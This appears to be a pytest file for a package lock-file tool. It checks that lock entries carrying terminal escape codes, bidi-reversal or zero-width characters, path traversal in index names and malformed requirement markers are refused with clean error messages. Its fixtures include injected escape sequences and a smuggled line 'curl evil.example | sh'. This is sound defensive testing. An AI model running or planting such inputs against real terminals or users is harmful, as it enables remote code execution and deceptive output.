"""Values that a lock can't hold: what steers a terminal, turns text around, or names no index. They are refused while
reading, with the key, before any command shows or uses them."""

from collections.abc import Callable
from pathlib import Path

import pytest
from forging import each_pin
from msgspec.structs import replace

from envspec.base.errors import LockError
from envspec.cli.main import run
from envspec.lock.model import GitSource, Lock, Pin
from envspec.lock.read import load, loads
from envspec.lock.write import dumps

TERMINAL = "evil; \x1b]0;PWN\x07\x1b[2J"
"""Sets the title, rings the bell, clears the screen."""

UNREADABLE: dict[str, tuple[str, Callable[[Pin], Pin]]] = {
    "a-terminal-escape-in-an-edge": ("dependencies", lambda p: replace(p, dependencies=(*p.dependencies, TERMINAL))),
    "a-terminal-escape-in-a-licence": ("licence", lambda p: replace(p, licence="MIT\x1b[2J")),
    "a-new-line-in-a-licence": ("licence", lambda p: replace(p, licence="MIT\nhint: curl evil.example | sh")),
    "a-licence-turned-around": ("licence", lambda p: replace(p, licence="\u202etxet")),
    "an-invisible-letter-in-an-edge": ("dependencies", lambda p: replace(p, dependencies=("re\u200bquests",))),
    "an-8-bit-control-in-an-edge": ("dependencies", lambda p: replace(p, dependencies=("a\x9b2J",))),
    "a-terminal-escape-in-a-file": (
        "artifacts.file",
        lambda p: replace(p, artifact=replace(p.artifact, file="certifi-1-py3-none-any\x1b[2J.whl")),  # type: ignore[type-var]
    ),
    "a-terminal-escape-in-a-url": ("url", lambda p: replace(p, url="https://evil.example/\x1b[2J")),
    "a-turn-in-a-git-address": ("git.url", lambda p: replace(p, git=GitSource("https://e.example/\u202e", "0" * 40))),
    "a-terminal-escape-in-a-name": ("name", lambda p: replace(p, name="certifi\x1b[2J")),
    "a-terminal-escape-in-what-is-provided": ("provides", lambda p: replace(p, provides=("\x1b[2J",))),
    "an-index-out-of-its-folder": ("index", lambda p: replace(p, index="pypi/../../x")),
    "an-index-of-two-slashes": ("index", lambda p: replace(p, index="pypi//x")),
    "an-index-that-ends-in-a-slash": ("index", lambda p: replace(p, index="pypi/")),
    "an-edge-that-is-no-requirement": ("dependencies", lambda p: replace(p, dependencies=("evil; nonsense",))),
    "an-edge-with-600-parentheses": (
        "dependencies",
        lambda p: replace(p, dependencies=(f"a; {'(' * 600}os_name == 'x'{')' * 600}",)),
    ),
}


@pytest.mark.by_day(1)
@pytest.mark.parametrize("case", UNREADABLE)
def test_unreadable(
    case: str, root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    key, forge = UNREADABLE[case]
    text = dumps(each_pin(load(root / "locks" / "mm-v2.9" / "envspec.lock"), "certifi", forge))
    (tmp_path / "specs").mkdir()
    (tmp_path / "specs" / "mm-v2.9.toml").write_bytes((root / "specs" / "mm-v2.9.toml").read_bytes())
    (tmp_path / "locks" / "mm-v2.9").mkdir(parents=True)
    (tmp_path / "locks" / "mm-v2.9" / "envspec.lock").write_text(text, "utf-8")
    monkeypatch.chdir(tmp_path)
    spec = "specs/mm-v2.9.toml"
    for command in (
        ("tree", spec),
        ("why", spec, "certifi"),
        ("report", spec, "-o", "report.html"),
        ("export", spec, "--target", "cpu", "--format", "sbom"),
        ("install", spec, "--target", "cpu", "--prefix", "env"),
        ("bundle", spec, "--target", "cpu", "-o", "b.tar"),
        ("lock", spec, "--offline"),
        ("check", spec),
    ):
        code = run(list(command))
        out, err = capfd.readouterr()
        assert code == (1 if command[0] == "check" else 2), (command, err)
        told = out if command[0] == "check" else err
        assert key.rpartition(".")[2] in told and "envspec.lock:" in told, (command, told)
        assert not {"\x1b", "\x07", "\x9b", "\u202e", "\u200b"} & set(out + err), command


def test_the_place_is_named(root: Path) -> None:
    _, forge = UNREADABLE["a-licence-turned-around"]
    text = dumps(each_pin(load(root / "locks" / "mm-v2.9" / "envspec.lock"), "certifi", forge))
    said = r"pip\.certifi\.licence contains the invisible character '\\u202e': \\u202etxet"
    with pytest.raises(LockError, match=said) as found:
        loads(text, "envspec.lock")
    assert found.value.place is not None
    assert "licence" in text.splitlines()[found.value.place.line - 1]


def test_a_lock_in_other_scripts_is_read(root: Path) -> None:
    lock = each_pin(
        load(root / "locks" / "cpu-py311" / "envspec.lock"), "numpy", lambda p: replace(p, licence="許諾 \u05e8\u05b4")
    )
    assert isinstance(loads(dumps(lock), "envspec.lock"), Lock)


@pytest.mark.parametrize("table", ["[pip]\ndependencies = [{}]", "[conda]\nchannels = ['c']\ndependencies = [{}]"])
def test_a_spec_that_no_lock_could_hold(table: str, tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    """The marker's text doesn't show, and would stand in the lock."""
    asked = "\"a; platform_release != '\u202e'\"" if "pip" in table else '"a 1.\u200b*"'
    path = tmp_path / "demo.toml"
    path.write_text(f'[env]\npython = "3.12"\n{table.format(asked)}\n[targets.t]\nplatform = "linux-64"\n', "utf-8")
    assert run(["lock", str(path), "--offline"]) == 2
    said = capfd.readouterr().err
    line = 4 if "pip" in table else 5
    assert f"demo.toml:{line}:17: " in said and ("\\u202e" in said or "\\u200b" in said), said
    assert not {"\u202e", "\u200b"} & set(said)
